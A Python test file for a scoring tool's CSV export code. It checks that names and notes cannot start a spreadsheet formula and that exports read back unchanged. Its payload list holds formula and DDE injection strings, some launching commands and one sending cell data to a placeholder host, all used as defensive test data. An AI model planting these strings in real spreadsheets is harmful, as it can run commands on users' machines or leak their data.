"""No cell of any download can run as a formula, and reading an export gives back what was typed."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from scoring import Answer, Kind, Stage, Verdict, default_rubric, evaluate
from scoring.csvcodec import (
    ACCOUNT_EXPORT_COLUMNS,
    COMPUTED_COLUMNS,
    COUNT_COLUMNS,
    EVIDENCE_EXPORT_COLUMNS,
    NOTE_MAX,
    READ_SEPARATORS,
    Row,
    Scored,
    _quoted,
    columns,
    read_rows,
    safe_cell,
    unsafe_cell,
    write_accounts,
    write_evidence,
    write_rows,
)
from scoring.status import Status

RUBRIC = default_rubric()
DANGEROUS_STARTS = tuple("=+-@\t\r\n＝＋－＠")

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1",
    "＋1",
    "－1",
    "＠x",
    "=cmd|'/c notepad'!A1",
    "'=already quoted",
    "''+twice quoted",
    'DDE("cmd";"/c calc";"")',
    " =space first",
    "   @three spaces",
    "=1;=2",
    "=1,=2",
    '="quoted, with ""quotes"""',
    "-",
    "+",
    "@",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    "\t",
    "-5",
    "+31 6 12345678",
    "=\n=multi\n=line",
    "'",
    "'tis plain text",
]


def cells_of(text: str, sep: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=sep))


def runnable(cell: str) -> bool:
    """A cell a spreadsheet could run: a formula start, also after spaces it might trim."""
    return cell.lstrip(" ").startswith(DANGEROUS_STARTS)


def assessment(account: str, note: str = "", **fields: object) -> Row:
    values: dict[str, object] = {
        "account": account,
        "taken_on": dt.date(2025, 3, 1),
        "kind": Kind.SCREEN,
        "gut": Verdict.HELL_YES,
        "answers": dict.fromkeys(RUBRIC.keys, Answer.HELL_YES),
        "note": note,
    }
    return Row.model_validate(values | fields)


# --- payloads through every download --------------------------------------------------------


@pytest.mark.parametrize("sep", READ_SEPARATORS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_a_name_or_note_never_starts_a_cell_and_reads_back_as_typed(
    payload: str, sep: str
) -> None:
    rows = [
        assessment(payload.strip() or "x", payload),  # names are stripped, so the payload as it can be
        assessment("Acme " + payload, payload + " tail"),
    ]
    scored = [
        Scored(row, (r := evaluate(RUBRIC, row.answers, row.gut)).score, r.verdict, None, payload)
        for row in rows
    ]

    text = write_rows(scored, RUBRIC, sep)

    assert [cell for cells in cells_of(text, sep) for cell in cells if runnable(cell)] == []
    read, errors = read_rows(text, RUBRIC)
    assert errors == []
    assert read == rows


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_the_accounts_download_is_neutralised_and_the_text_kept(payload: str) -> None:
    row = {
        "account_id": 7,
        "account": payload,
        "company": payload,
        "stage": Stage.CLIENT,
        "outcome": payload,
        "verdict": payload,
        "status": payload,
        "reason": payload,
    }

    cells = cells_of(write_accounts([row], ";"), ";")

    assert [cell for cell in cells[1] if runnable(cell)] == []
    read = dict(zip(cells[0], (unsafe_cell(cell) for cell in cells[1]), strict=True))
    assert {
        name: read[name] for name in ("account", "company", "outcome", "verdict", "status", "reason")
    } == (dict.fromkeys(("account", "company", "outcome", "verdict", "status", "reason"), payload))
    assert (read["account_id"], read["stage"]) == ("7", "client")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_in_the_evidence_log_is_neutralised_and_the_text_kept(payload: str) -> None:
    text = write_evidence([(payload, dt.date(2025, 5, 4), payload), ("Acme", dt.date(2025, 5, 5), payload)])

    cells = cells_of(text)

    assert [cell for line in cells[1:] for cell in line if runnable(cell)] == []
    assert [[unsafe_cell(cell) for cell in line] for line in cells[1:]] == [
        [payload, "2025-05-04", payload],
        ["Acme", "2025-05-05", payload],
    ]


def test_the_payload_list_covers_every_dangerous_start() -> None:
    firsts = {payload.lstrip(" '")[:1] for payload in PAYLOADS}

    assert len(PAYLOADS) >= 20
    assert set(DANGEROUS_STARTS) <= firsts


def test_a_space_before_a_formula_is_no_way_around_the_quote() -> None:
    assert safe_cell(" =1+1") == "' =1+1"
    assert safe_cell("'  @x") == "''  @x"
    assert unsafe_cell(safe_cell(" =1+1")) == " =1+1"


def test_text_that_only_looks_odd_is_left_alone() -> None:
    for text in ["", "plain", "'tis", "a=b", "1-2", "#hash", "%pct", "|pipe", "Zoë =x"]:
        assert safe_cell(text) == text
        assert unsafe_cell(text) == text


# --- numbers and headers ---------------------------------------------------------------------


def test_numeric_columns_of_the_assessment_file_are_plain_numbers() -> None:
    row = assessment("-Acme", invoice_days_late=0, out_of_scope_requests=3, missed_meetings=12)
    result = evaluate(RUBRIC, row.answers, row.gut)

    cells = cells_of(write_rows([Scored(row, result.score, result.verdict, Status.WATCH, "payment")], RUBRIC))
    written = dict(zip(cells[0], cells[1], strict=True))

    assert [written[name] for name in (*COUNT_COLUMNS, "score")] == ["0", "3", "12", "", "100"]
    assert written["account"] == "'-Acme"


def test_numbers_in_the_accounts_download_stay_numbers_even_when_negative() -> None:
    rows: list[dict[str, object]] = [
        {"account": "A", "deal_value": -5, "score": -5.0, "assessments": 0, "account_id": 1},
        {"account": "B", "deal_value": Decimal("-1250.50"), "score": 92.5},
        {"account": "C", "deal_value": "-12.5", "score": "-3"},  # numbers that arrive as text
        {"account": "D", "deal_value": 0.1, "score": 79.96},
    ]

    cells = cells_of(write_accounts(rows))
    at = {name: i for i, name in enumerate(cells[0])}

    assert [[line[at[name]] for name in ("deal_value", "score")] for line in cells[1:]] == [
        ["-5", "-5"],
        ["-1250.50", "92.5"],
        ["-12.5", "-3"],
        ["0.1", "79.9"],  # a score reads as it does on screen: truncated, never rounded up
    ]


def test_text_in_a_numeric_column_that_is_no_number_is_still_neutralised() -> None:
    cells = cells_of(write_accounts([{"account": "A", "deal_value": "-1+1", "score": "=2"}]))
    at = {name: i for i, name in enumerate(cells[0])}

    assert (cells[1][at["deal_value"]], cells[1][at["score"]]) == ("'-1+1", "'=2")


def test_a_negative_number_written_as_text_in_a_text_column_is_neutralised() -> None:
    cells = cells_of(write_accounts([{"account": "-5", "reason": "-5"}]))
    at = {name: i for i, name in enumerate(cells[0])}

    assert (cells[1][at["account"]], cells[1][at["reason"]]) == ("'-5", "'-5")


@pytest.mark.parametrize("sep", READ_SEPARATORS)
def test_every_header_is_the_documented_names_and_none_can_run(sep: str) -> None:
    headers = [
        cells_of(write_rows([], RUBRIC, sep), sep)[0],
        cells_of(write_accounts([], sep), sep)[0],
        cells_of(write_evidence([], sep), sep)[0],
    ]

    assert headers == [list(columns(RUBRIC)), list(ACCOUNT_EXPORT_COLUMNS), list(EVIDENCE_EXPORT_COLUMNS)]
    assert [name for header in headers for name in header if runnable(name)] == []
    assert headers[0][-len(COMPUTED_COLUMNS) :] == list(COMPUTED_COLUMNS)


# --- arbitrary text round-trips --------------------------------------------------------------

TRICKY = list(",;|\t\"'\r\n =+-@＝＋－＠\u2028\u00a0")
CHARACTERS = st.one_of(st.sampled_from(TRICKY), st.characters(exclude_categories=["Cs"]))
NAMES = (
    st.text(CHARACTERS, min_size=1, max_size=200)
    .map(str.strip)  # names are stripped on the way in, so generate them as they are kept
    .filter(lambda name: 1 <= len(name) <= 200)
)
NOTES = st.one_of(
    st.text(CHARACTERS, max_size=300),
    st.tuples(st.sampled_from([*DANGEROUS_STARTS, "'", " ", "'="]), st.text(CHARACTERS, max_size=100)).map(
        "".join
    ),
)


@settings(max_examples=300, deadline=None)
@given(
    names=st.lists(NAMES, min_size=1, max_size=4),
    notes=st.lists(NOTES, min_size=1, max_size=4),
    sep=st.sampled_from(READ_SEPARATORS),
)
@example(names=["=1+1"], notes=["'\r\n=x"], sep=";")
@example(names=["a\u2028b"], notes=["\r"], sep="\t")
def test_any_unicode_name_and_note_round_trip_through_a_file(
    names: list[str], notes: list[str], sep: str
) -> None:
    rows = [
        assessment(name, notes[i % len(notes)], taken_on=dt.date(2025, 1, 1) + dt.timedelta(days=i))
        for i, name in enumerate(names)
    ]

    text = write_rows([(row, None) for row in rows], RUBRIC, sep)

    read, errors = read_rows(text, RUBRIC)
    assert errors == []
    assert [(r.account, r.note) for r in read] == [(r.account, r.note) for r in rows]
    assert [cell for cells in cells_of(text, sep) for cell in cells if runnable(cell)] == []


@given(st.text(CHARACTERS, max_size=NOTE_MAX // 100))
def test_unsafe_cell_undoes_safe_cell_for_any_text(text: str) -> None:
    assert unsafe_cell(safe_cell(text)) == text
    assert not runnable(safe_cell(text))


@settings(max_examples=300)
@given(text=st.text(), sep=st.sampled_from(READ_SEPARATORS))
@example(text="", sep=",")
@example(text='a "quoted"; word,\r\nnext', sep=";")
@example(text="tab\there", sep="\t")
def test_a_cell_is_quoted_exactly_as_the_csv_module_quotes_it(text: str, sep: str) -> None:
    """`write_sheet` writes cells itself (each distinct value once); the csv module is the reference."""
    out = io.StringIO()
    csv.writer(out, delimiter=sep, lineterminator="\r\n").writerow([text, "x"])
    assert _quoted(text, sep) + sep + "x\r\n" == out.getvalue()
